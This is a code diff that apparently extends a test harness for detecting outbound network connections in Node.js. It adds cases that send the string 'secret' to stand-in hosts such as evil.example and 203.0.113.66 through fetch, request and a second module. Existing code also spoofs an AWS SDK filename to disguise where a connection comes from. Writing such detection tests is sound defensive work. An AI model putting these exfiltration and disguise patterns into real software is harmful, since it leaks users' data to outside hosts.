@@ -9,13 +9,24 @@ const net = require('node:net');
 const { setTimeout: after } = require('node:timers/promises');
 const vm = require('node:vm');
 const { Worker, isMainThread, workerData } = require('node:worker_threads');
-const { dial, redial } = require('dialer');
+const { dial, redial, request, send } = require('dialer');
 const starter = require('starter');
 
 const quietly = (act) => {
   try {
     act();
   } catch {}
+};
+
+// The bodies that fetch takes. With one, undici connects in a later turn.
+const bodies = {
+  none: () => undefined,
+  text: () => 'secret',
+  bytes: () => Buffer.from('secret'),
+  form: () => new URLSearchParams({ a: 'secret' }),
+  parts: () => new FormData(),
+  file: () => new Blob(['secret']),
+  stream: () => new Blob(['secret']).stream(),
 };
 
 const ways = {
@@ -47,6 +58,12 @@ const ways = {
     const filename = '/var/task/node_modules/@aws-sdk/client-s3/index.js';
     await vm.runInThisContext('(function send(dial) { return dial(7006); })', { filename })(dial);
   },
+  async by_fetch() {
+    for (const [kind, body] of Object.entries(bodies)) await send(`http://${kind}.evil.example:7030/`, body());
+  },
+  by_fetches_at_once: () =>
+    Promise.all([send('http://203.0.113.66:7031/', 'secret'), starter.send('http://203.0.113.66:7032/', 'secret')]),
+  by_request: () => request({ host: 'evil.example', port: 7033 }, 'secret'),
   // What has no channel.
   by_exec_sync: () => quietly(() => childProcess.execSync('true')),
   by_a_file: () => quietly(() => fs.readFileSync('/tmp/there')),
